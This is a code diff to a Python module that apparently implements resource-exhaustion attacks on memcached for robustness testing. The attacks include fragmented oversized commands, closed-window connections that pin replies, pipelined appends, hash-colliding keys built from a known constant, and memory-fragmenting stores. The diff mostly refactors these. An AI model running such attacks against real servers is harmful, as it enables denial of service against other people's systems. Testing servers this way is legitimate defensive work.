@@ -1,14 +1,11 @@
 # SPDX-License-Identifier: BSL-1.0
 """Attacks by a client of memcached: requests that cost the server more than the client."""
 
-from __future__ import annotations
-
 import contextlib
 import struct
 import time
 
 from hostile.attack import CONNECT_SECONDS, MEMCACHED, PAUSE_SECONDS, Attack, client, send_some, store
-from hostile.raw_peer import RawConnection
 
 
 class LongGets(Attack):
@@ -40,11 +37,11 @@ class LongGets(Attack):
 
 
 class LongPieces(Attack):
-    """One contiguous piece that is longer than any command: a segment in IP fragments, for a core that does not reassemble them."""
+    """One contiguous piece that is longer than any command: a segment in IP fragments, for a core other than the reassembling one."""
 
     row = 2
     pieces = (b"\0" + b"A" * 20_000, b"\0" + b"k" * 40_000, b"a" * 30_000, b"\r" * 9_000)
-    # Values of the size of a carried command. Every second one is deleted, so that the heap places a carried command next to other values.
+    # Values as large as an unfinished command. Every second value is deleted, so that the heap places such a command next to other values.
     marks = 400
 
     @staticmethod
@@ -63,8 +60,7 @@ class LongPieces(Attack):
     def press(self) -> None:
         self._count += 1
         peer = self.scene.peer
-        source = (self.scene.foreign_address(self._count % 8), 20_000 + self._count)
-        connection = peer.connect(source, MEMCACHED)
+        connection = peer.connect((self.scene.foreign_address(self._count % 8), 20_000 + self._count), MEMCACHED)
         connection.send(b"get ")
         peer.poll(0.01)
         connection.send(self.pieces[self._count % len(self.pieces)])
@@ -88,7 +84,7 @@ class LongPieces(Attack):
 
 
 class PendingRequests(Attack):
-    """400 connections with a closed window keep sending requests. The server holds them, because the client does not take its answers."""
+    """400 connections with a closed window keep sending requests. The server holds them, because the client does not read the answers."""
 
     row = 3
     keys = (b"pending",)
@@ -101,7 +97,7 @@ class PendingRequests(Attack):
         self.connections = [client(self.scene, reads=False) for _ in range(self.count)]
         with contextlib.closing(client(self.scene)) as other:
             store(other, b"pending", b"p" * 1_000_000)
-        # Until all receive windows are full, or the image accepts no more.
+        # Sends until all receive windows are full, or the image accepts no more.
         deadline = time.monotonic() + self.fill_seconds
         idle_passes = 0
         while time.monotonic() < deadline and idle_passes < self.idle_passes_max:
@@ -134,7 +130,6 @@ class Replacements(Attack):
         self._pending = [b"", b""]
         store(self.connections[0], b"large", b"l" * 100_000)
         store(self.connections[1], b"number", b"7".ljust(100_000))
-        self._stored_at = 0.0
 
     def press(self) -> None:
         requests = (b"append large 0 0 1\r\n!\r\n" * self.pipeline, b"incr number 1\r\n" * self.pipeline)
@@ -173,27 +168,21 @@ class PinnedReplies(Attack):
         peer = self.scene.peer
         with contextlib.closing(client(self.scene)) as other:
             store(other, b"a", b"a" * 1000)
-        self._raw: list[RawConnection] = []
         for number in range(self.count):
-            self._raw.append(peer.connect((self.scene.foreign_address(number % 8), 30_000 + number), MEMCACHED, window=0))
-        for connection in self._raw:
+            self.raw.append(peer.connect((self.scene.foreign_address(number % 8), 30_000 + number), MEMCACHED, window=0))
+        for connection in self.raw:
             connection.acknowledges = False
         self._next = 0
 
     def press(self) -> None:
         if self._next < self.count * self.requests_max // self.batch:
-            self._raw[self._next % self.count].send(b"get a a a a\r\n" * self.batch)
+            self.raw[self._next % self.count].send(b"get a a a a\r\n" * self.batch)
             self._next += 1
         self.scene.peer.poll(PAUSE_SECONDS)
 
-    def end(self) -> None:
-        for connection in self._raw:
-            connection.reset()
-        super().end()
-
 
 class CollidingKeys(Attack):
-    """Keys with equal hashes, if the first step of the hash can be made zero by a publicly known constant."""
+    """Keys that begin with a publicly known constant, after which a hash without a secret is zero. The hashes of these keys are equal."""
 
     row = 6
     constant = struct.pack("<Q", 0x9E3779B97F4A7C15)
@@ -222,8 +211,7 @@ class CollidingKeys(Attack):
         opcode_delete_quiet, opcode_no_operation = 0x14, 0x0A
         with contextlib.closing(client(self.scene)) as other:
             for first in range(0, self._sent, self.batch):
-                numbers = range(first, first + self.batch)
-                other.sendall(b"".join(_binary(opcode_delete_quiet, self._key(number)) for number in numbers))
+                other.sendall(b"".join(_binary(opcode_delete_quiet, self._key(number)) for number in range(first, first + self.batch)))
                 other.sendall(_binary(opcode_no_operation))
                 answers = b""
                 while not answers.endswith(_binary(opcode_no_operation).replace(b"\x80", b"\x81", 1)):
@@ -233,7 +221,7 @@ class CollidingKeys(Attack):
 
 
 class OtherSizes(Attack):
-    """A store full of small values, some of them in use, then gets large ones."""
+    """Fills the store with small values, some of them in use, then stores large values."""
 
     row = 7
     # Most of the machine's memory, so that the heap has to move memory from one size class to another.
@@ -309,9 +297,5 @@ class SlowReaders(Attack):
 
 def _binary(opcode: int, key: bytes = b"", value: bytes = b"", extras: bytes = b"") -> bytes:
     """A request of memcached's binary protocol."""
-    return (
-        struct.pack("!BBHBBHIIQ", 0x80, opcode, len(key), len(extras), 0, 0, len(extras) + len(key) + len(value), 0, 0)
-        + extras
-        + key
-        + value
-    )
+    body = extras + key + value
+    return struct.pack("!BBHBBHIIQ", 0x80, opcode, len(key), len(extras), 0, 0, len(body), 0, 0) + body
